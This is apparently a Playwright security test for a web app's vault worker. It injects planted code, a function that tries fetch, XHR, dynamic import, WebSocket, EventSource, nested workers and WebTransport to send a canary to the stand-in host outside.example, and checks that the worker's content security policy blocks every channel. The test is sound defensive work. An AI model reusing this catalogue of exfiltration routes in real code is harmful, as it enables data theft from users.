import type { BrowserContext } from '@playwright/test'

import { expect, test } from './fixtures.ts'
import { findVaultWorker, openVaultWorker } from './vault-worker.ts'

// A dependency that turned hostile is in the script of the vault's worker, and tries every way out that a worker has.
// The server outside hears nothing. From a worker without the policy, the same code does reach the server.

const address = 'https://outside.example/'

test(
  'planted code in the vault’s worker sends nothing, and would without its policy',
  { tag: '@deep' },
  async ({ context, page, policy }) => {
    const reached: string[] = []
    await context.route(`${address}**`, (route) => {
      reached.push(route.request().url())
      const headers = { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' }
      return route.fulfill({ headers, contentType: 'text/javascript', body: '' })
    })
    await context.routeWebSocket(/outside/, (socket) => void reached.push(socket.url()))
    await plant(context, false)
    const open = await openVaultWorker(page, findVaultWorker())
    // The control: without the policy at least these ways are open.
    expect(await waysOut(open)).toEqual(expect.arrayContaining(['fetch', 'XMLHttpRequest', 'import']))
    expect(reached.length).toBeGreaterThan(3)
    // The vault's worker detects the open network, and rejects every call.
    expect(await open.ask('readState')).toMatchObject({ ok: false, failure: { code: 'vault/network-open' } })

    await open.page.close()
    await context.unroute('**/assets/vault.worker-*.js')
    await plant(context, true)
    reached.length = 0
    const shut = await openVaultWorker(await context.newPage(), findVaultWorker())
    expect(await waysOut(shut)).toEqual([])
    // The worker continues: only outgoing requests are blocked.
    expect(await shut.ask('readState')).toMatchObject({ ok: true, value: { kind: 'missing' } })
    expect(reached).toEqual([])
    policy.take()
  },
)

async function plant(context: BrowserContext, hasPolicy: boolean): Promise<void> {
  await context.route('**/vault-harness', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Vault</title>' }),
  )
  await context.route('**/assets/vault.worker-*.js', async (route) => {
    const response = await route.fetch({ maxRetries: 2 })
    const { 'content-security-policy': csp = '', ...headers } = response.headers()
    const planted = `(${tryEveryWayOut.toString()})(${JSON.stringify(address)});\n`
    await route.fulfill({
      status: response.status(),
      headers: hasPolicy ? { ...headers, 'content-security-policy': csp } : headers,
      body: planted + (await response.text()),
    })
  })
}

/** Returns the ways out that were open to the planted code, which reports them on a channel of its own. */
function waysOut({ page }: Awaited<ReturnType<typeof openVaultWorker>>): Promise<unknown> {
  return page.evaluate(
    () =>
      new Promise((resolve) => {
        const channel = new BroadcastChannel('planted')
        // The worker may not listen yet.
        const asking = setInterval(() => channel.postMessage('which'), 50)
        channel.addEventListener('message', ({ data }) => {
          if (!Array.isArray(data)) return
          clearInterval(asking)
          channel.close()
          resolve(data)
        })
      }),
  )
}

/** Runs in the worker before its own script: imports nothing. */
function tryEveryWayOut(to: string): void {
  const canary = 'canary-5e5e5e5e'
  const outsideAt = (way: string) => `${to}${way}?${canary}`
  const succeeds = (way: string, attempt: () => Promise<unknown>): Promise<readonly string[]> =>
    attempt().then(
      () => [way],
      () => [],
    )
  const heard = (target: EventTarget, good: string) =>
    new Promise<void>((resolve, reject) => {
      target.addEventListener(good, () => resolve())
      target.addEventListener('error', () => reject(new Error('blocked')))
      target.addEventListener('close', () => reject(new Error('closed')))
    })
  const nested = (address: string) => {
    const worker = new Worker(address, { type: 'module' })
    return heard(worker, 'message')
  }
  const blobOf = (script: string) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))
  const script = `await fetch(${JSON.stringify(outsideAt('nested'))}); postMessage(1)`
  const attempts = Promise.all([
    succeeds('fetch', () => fetch(outsideAt('fetch'), { method: 'POST', body: canary })),
    succeeds('fetch without an answer', () => fetch(outsideAt('no-cors'), { mode: 'no-cors' })),
    succeeds('fetch from its own origin', () => fetch(`/canary?${canary}`)),
    succeeds('XMLHttpRequest', () => {
      const request = new XMLHttpRequest()
      request.open('POST', outsideAt('xhr'))
      request.send(canary)
      return heard(request, 'load')
    }),
    // eslint-disable-next-line keywright/imports -- what is planted names no module of ours
    succeeds('import', () => import(/* @vite-ignore */ outsideAt('import'))),
    // eslint-disable-next-line keywright/imports -- the same
    succeeds('import of a blob', () => import(/* @vite-ignore */ blobOf('export {}'))),
    succeeds('WebSocket', () => heard(new WebSocket(outsideAt('socket').replace('http', 'ws')), 'open')),
    succeeds('EventSource', () => heard(new EventSource(outsideAt('events')), 'open')),
    succeeds('a worker of a blob', () => nested(blobOf(script))),
    succeeds('a worker of its own origin', () => nested(`/canary.js?${canary}`)),
    succeeds('WebTransport', async () => {
      const Transport: unknown = Reflect.get(globalThis, 'WebTransport')
      if (typeof Transport !== 'function') throw new Error('not here')
      const transport: unknown = Reflect.construct(Transport, [
        outsideAt('transport').replace('http', 'https'),
      ])
      await Reflect.get(Object(transport), 'ready')
    }),
  ]).then((ways) => ways.flat())
  const channel = new BroadcastChannel('planted')
  channel.addEventListener('message', ({ data }) => {
    if (data === 'which') void attempts.then((ways) => channel.postMessage(ways))
  })
}
